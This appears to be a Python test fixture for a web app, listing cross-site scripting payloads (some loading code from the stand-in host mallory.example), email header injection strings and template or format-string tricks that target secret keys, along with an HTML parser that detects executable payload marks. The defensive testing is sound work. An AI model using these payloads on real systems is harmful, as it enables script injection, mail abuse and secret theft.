"""What mallory types: script injection, header injection, placeholder and format-string tricks."""

from html.parser import HTMLParser

MARK = "1337"

# About forty ways to get a script to run, each calling alert(1337) or loading from mallory.example.
XSS = [
    "<script>alert(1337)</script>",
    "<SCRIPT SRC=//mallory.example/1337.js></SCRIPT>",
    '"><script>alert(1337)</script>',
    "'><script>alert(1337)</script>",
    "</textarea><script>alert(1337)</script>",
    "</title><script>alert(1337)</script>",
    "<img src=x onerror=alert(1337)>",
    '<img src="x" onerror="alert(1337)">',
    "<img src=javascript:alert(1337)>",
    "<svg onload=alert(1337)>",
    "<svg><script>alert(1337)</script></svg>",
    "<body onload=alert(1337)>",
    "<iframe src=javascript:alert(1337)></iframe>",
    '<iframe srcdoc="<script>alert(1337)</script>"></iframe>',
    "<a href=javascript:alert(1337)>click</a>",
    '<a href="jAvAsCrIpT:alert(1337)">click</a>',
    "<a href=&#106;avascript:alert(1337)>click</a>",
    "<details open ontoggle=alert(1337)>",
    "<input autofocus onfocus=alert(1337)>",
    "<select autofocus onfocus=alert(1337)>",
    "<video><source onerror=alert(1337)></video>",
    "<audio src=x onerror=alert(1337)>",
    "<object data=javascript:alert(1337)>",
    "<embed src=javascript:alert(1337)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1337)>",
    "<form action=javascript:alert(1337)><button>go</button></form>",
    "<button formaction=javascript:alert(1337)>go</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1337)'>",
    "<base href=//mallory.example/1337/>",
    "<link rel=stylesheet href=//mallory.example/1337.css>",
    "<style>@import '//mallory.example/1337.css';</style>",
    "<div style=background:url(javascript:alert(1337))>",
    "<marquee onstart=alert(1337)>",
    "{{ 1337|add:1 }}{% debug %}",
    "${alert(1337)}",
    "javascript:alert(1337)",
    "<scr<script>ipt>alert(1337)</scr</script>ipt>",
    "%3Cscript%3Ealert(1337)%3C/script%3E",
    "&lt;script&gt;alert(1337)&lt;/script&gt;",
    "<!--<script>alert(1337)</script>-->",
    "\u003cscript\u003ealert(1337)\u003c/script\u003e",
    "<x onclick=alert(1337)>click",
]

# Every kind of line break that a mail library or a mail client might honour in a header.
LINE_BREAKS = ["\r\n", "\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c"]
HEADER_INJECTIONS = [f"Mallory{brk}Bcc: victim@mallory.example" for brk in LINE_BREAKS]

PLACEHOLDER_TRICKS = [
    "{target_name}",
    "{signer_name.__class__.__mro__}",
    "{0}",
    "{signer_message}",
    "{{campaign_title}}",
    "%s %d %(x)s",
    "{{ settings.SECRET_KEY }}",
    "${SECRET_KEY}",
    "{signer_name:>999999999}",
    "{!r}",
]

DANGEROUS_TAGS = {"script", "iframe", "img", "svg", "object", "embed", "base", "link", "style", "form", "frame"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster"}
BAD_URL_STARTS = ("javascript:", "vbscript:", "data:text/html", "//mallory", "http://mallory", "https://mallory")
ATTACKER = (MARK, "mallory.example")


class ExecutableMarks(HTMLParser):
    """Finds payload marks that a browser would treat as markup or script, not as text: an event
    handler or a dangerous element carrying them, a URL whose scheme or host the attacker chose, or
    script text. An escaped payload in text, in an ordinary attribute or URL-encoded in a share link
    is text, and not reported."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self._script = tag in {"script", "style"} and "json" not in attributes.get("type", "")
        for name, value in attributes.items():
            marked = any(mark in value for mark in ATTACKER)
            if (
                any(mark in name for mark in ATTACKER)
                or (name.startswith("on") and marked)
                or (name in URL_ATTRIBUTES and value.strip().lower().startswith(BAD_URL_STARTS))
                or (name in {"srcdoc", "style"} and marked)
                or (tag in DANGEROUS_TAGS and marked)
                or (tag == "meta" and "http-equiv" in attributes and marked)
            ):
                self.found.append(f"<{tag} {name}={value[:80]!r}>")
        if any(mark in tag for mark in ATTACKER):
            self.found.append(f"<{tag}>")

    def handle_endtag(self, tag):
        self._script = False

    def handle_data(self, data):
        if self._script and any(mark in data for mark in ATTACKER):
            self.found.append(f"script text {data[:60]!r}")


def executable_marks(html: str) -> list[str]:
    parser = ExecutableMarks()
    parser.feed(html)
    return parser.found
